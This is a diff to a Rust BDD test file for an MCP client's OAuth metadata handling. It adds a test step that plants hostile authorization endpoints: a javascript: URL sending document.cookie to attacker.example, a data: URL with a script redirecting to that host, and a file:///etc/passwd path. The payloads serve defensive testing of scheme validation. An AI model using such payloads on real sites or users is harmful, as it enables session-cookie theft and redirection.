@@ -55,7 +55,23 @@ async fn no_pkce_methods(w: &mut AuthWorld) {
 #[given("the authorization server metadata names an issuer other than the one it was fetched for")]
 async fn issuer_mismatch(w: &mut AuthWorld) {
     // The endpoints stay the mock's (through the proxy); only the issuer claim is another's.
-    w.mcp_client.metadata_issuer = Some("https://another-issuer.example".into());
+    w.mcp_client
+        .metadata_overrides
+        .insert("issuer".into(), json!("https://another-issuer.example"));
+}
+
+#[given(
+    regex = r"^the authorization server metadata names a (javascript|data|file): authorization endpoint$"
+)]
+async fn hostile_authorization_endpoint(w: &mut AuthWorld, scheme: String) {
+    let url = match scheme.as_str() {
+        "javascript" => "javascript:fetch('https://attacker.example/?'+document.cookie)//",
+        "data" => "data:text/html,<script>location='https://attacker.example/'</script>",
+        _ => "file:///etc/passwd",
+    };
+    w.mcp_client
+        .metadata_overrides
+        .insert("authorization_endpoint".into(), json!(url));
 }
 
 #[given(
